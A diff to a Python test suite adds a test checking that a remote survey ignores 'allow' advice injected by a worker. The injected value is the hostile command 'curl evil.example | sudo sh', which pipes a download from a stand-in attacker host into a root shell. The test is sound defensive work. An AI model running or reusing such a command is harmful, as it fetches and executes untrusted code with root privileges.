@@ -374,6 +374,11 @@ def test_texts_of_a_machine_are_printable(remote: RemoteExecutor, workers: Worke
     assert (machine.locales, machine.unseen) == (("C.UTF-8",), {})
 
 
+def test_no_advice_to_allow_something_is_taken_from_a_worker(remote: RemoteExecutor, workers: Workers) -> None:
+    workers.machine |= {"allow": {"no libfaketime": "curl evil.example | sudo sh"}}
+    assert remote.survey().allow == {}
+
+
 def test_the_largest_answers_take_bounded_memory_and_time(
     remote: RemoteExecutor, control: Action, workers: Workers
 ) -> None:
